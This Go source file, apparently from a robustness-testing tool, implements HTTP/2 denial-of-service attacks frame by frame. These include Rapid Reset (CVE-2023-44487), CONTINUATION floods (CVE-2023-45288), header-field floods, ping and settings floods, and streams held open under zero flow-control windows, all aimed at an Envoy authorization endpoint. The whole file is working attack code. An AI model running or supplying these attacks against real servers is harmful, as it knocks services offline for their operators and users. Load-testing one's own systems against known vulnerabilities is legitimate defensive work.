// Copyright 2026 The Hexcovery Authors.
// SPDX-License-Identifier: Apache-2.0

package abuse

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"slices"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2 is a connection that speaks HTTP/2 frame by frame.
type h2 struct {
	net.Conn
	*http2.Framer
	encoded bytes.Buffer
	encoder *hpack.Encoder
	// stream is the last one that was opened.
	stream uint32

	buffered *bufio.Writer
}

func speak(c net.Conn) (*h2, error) {
	h := &h2{Conn: c, buffered: bufio.NewWriterSize(c, 16<<10)}
	h.Framer = http2.NewFramer(h.buffered, c)
	h.encoder = hpack.NewEncoder(&h.encoded)
	if _, err := io.WriteString(h.buffered, http2.ClientPreface); err != nil {
		return nil, err
	}
	return h, h.WriteSettings()
}

// headers encodes the header of a request.
func (h *h2) headers(path string, more ...string) []byte {
	h.encoded.Reset()
	fields := append([]string{":method", "POST", ":scheme", "http", ":authority", "a", ":path", path}, more...)
	for i := 0; i < len(fields); i += 2 {
		_ = h.encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return h.encoded.Bytes()
}

// open opens a stream.
func (h *h2) open(ends bool, path string, more ...string) error {
	if h.stream++; h.stream%2 == 0 {
		h.stream++
	}
	return h.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream, BlockFragment: h.headers(path, more...), EndHeaders: true, EndStream: ends})
}

// frames has a connection write the frames that next writes, as fast as the server takes
// them, and at most count times. What it is answered is read, unless deaf.
func frames(count int, deaf bool, next func(*h2) error) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		h, err := speak(c)
		if err != nil {
			return
		}
		if !deaf {
			go func() { _, _ = io.Copy(io.Discard, c) }()
		}
		for range count {
			if next(h) != nil {
				return
			}
		}
		if h.buffered.Flush() != nil {
			return
		}
		filled(c)
		drained := make(chan struct{})
		go func() { defer close(drained); _, _ = io.Copy(io.Discard, c) }()
		select {
		case <-ctx.Done():
		case <-drained:
		}
	}
}

const check = "/envoy.service.auth.v3.Authorization/Check"

// rapidReset opens streams and resets them at once (CVE-2023-44487).
func rapidReset(path string, more ...string) func(*h2) error {
	return func(h *h2) error {
		if err := h.open(true, path, more...); err != nil {
			return err
		}
		return h.WriteRSTStream(h.stream, http2.ErrCodeCancel)
	}
}

// streams opens streams whose bodies do not come.
func streams(path string, more ...string) func(*h2) error {
	return func(h *h2) error {
		if err := h.open(false, path, more...); err != nil {
			return err
		}
		return h.buffered.Flush()
	}
}

// continuations send a header without an end (CVE-2023-45288).
func continuations(path string) func(*h2) error {
	field := make([]byte, 0, 8<<10)
	for range 200 {
		// A literal without indexing, with a new name (RFC 7541, section 6.2.2).
		field = append(field, 0, 1, 'x', 30)
		field = append(field, bytes.Repeat([]byte{'y'}, 30)...)
	}
	return func(h *h2) error {
		if h.stream == 0 {
			h.stream = 1
			return h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.headers(path)})
		}
		return h.WriteContinuation(1, false, field)
	}
}

// tinyFields are fields of HTTP/2. A header may have about 450.
func tinyFields(count int) (fields []string) {
	for i := range count {
		fields = append(fields, fmt.Sprintf("x%03d", i), "")
	}
	return fields
}

func pings(h *h2) error { return h.WritePing(false, [8]byte{}) }
func settings(h *h2) error {
	return h.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 16 << 10})
}

// credit is what an HTTP/2 connection may still send.
type credit struct {
	mu   sync.Mutex
	more *sync.Cond
	left int
	over bool
	// begun is how many answers have begun.
	begun int
}

// listen answers SETTINGS and has WINDOW_UPDATEs add to the credit of the connection, until
// the connection ends. It reads everything else, and takes no notice of it.
func (h *h2) listen() *credit {
	c := &credit{left: 65535} // RFC 9113, section 6.9.2
	c.more = sync.NewCond(&c.mu)
	go func() {
		for {
			frame, err := h.ReadFrame()
			update, ok := frame.(*http2.WindowUpdateFrame)
			c.mu.Lock()
			c.over = err != nil
			if _, ok := frame.(*http2.HeadersFrame); ok {
				c.begun++
			}
			if ok && update.StreamID == 0 {
				c.left += int(update.Increment)
			}
			c.more.Broadcast()
			c.mu.Unlock()
			if err != nil {
				return
			}
		}
	}()
	return c
}

// take waits until n bytes may be sent; false when the connection has ended.
func (c *credit) take(n int) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	for c.left < n && !c.over {
		c.more.Wait()
	}
	c.left -= n
	return !c.over
}

// answers waits until n answers have begun, or the connection has ended.
func (c *credit) answers(n int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	for c.begun < n && !c.over {
		c.more.Wait()
	}
}

// unfinished are streams whose bodies begin and do not end.
type unfinished struct {
	streams int
	path    string
	headers []string
	// body is what each begins with, in frames of piece bytes.
	body, piece int
	// prefix begins the body.
	prefix []byte
	// deaf: no answer may be sent. polite: but to a request that comes before all others.
	deaf, polite bool
}

// hold opens the streams of one connection, one body after the other, and holds them.
func (u unfinished) hold(ctx context.Context, c net.Conn) {
	h, err := speak(c)
	if err != nil {
		return
	}
	credit := h.listen()
	if u.polite {
		if h.open(true, u.path) != nil || h.buffered.Flush() != nil {
			return
		}
		credit.answers(1)
	}
	if u.deaf {
		_ = h.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	}
	body := append(slices.Clone(u.prefix), make([]byte, u.body)...)
	for range u.streams {
		if h.open(false, u.path, u.headers...) != nil || h.buffered.Flush() != nil {
			return
		}
		for piece := range slices.Chunk(body, max(1, u.piece)) {
			if !credit.take(len(piece)) || h.WriteData(h.stream, false, piece) != nil {
				return
			}
		}
		if h.buffered.Flush() != nil {
			return
		}
	}
	filled(c)
	credit.take(1 << 40) // until the connection has ended
}

// resets holds as many streams as there may be, whose answers it does not take, and opens and
// resets others beside them: net/http keeps the requests of those until a handler is free.
func resets(held, beside int, path string, fields []string) func(context.Context, net.Conn) {
	return func(_ context.Context, c net.Conn) {
		h, err := speak(c)
		if err != nil {
			return
		}
		_ = h.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		credit := h.listen()
		for range held {
			if h.open(true, path) != nil {
				return
			}
		}
		if h.buffered.Flush() != nil {
			return
		}
		credit.answers(held) // whose bodies it does not take
		for range beside {
			if h.open(true, path, fields...) != nil || h.WriteRSTStream(h.stream, http2.ErrCodeCancel) != nil {
				return
			}
		}
		if h.buffered.Flush() != nil {
			return
		}
		filled(c)
		credit.take(1 << 40)
	}
}
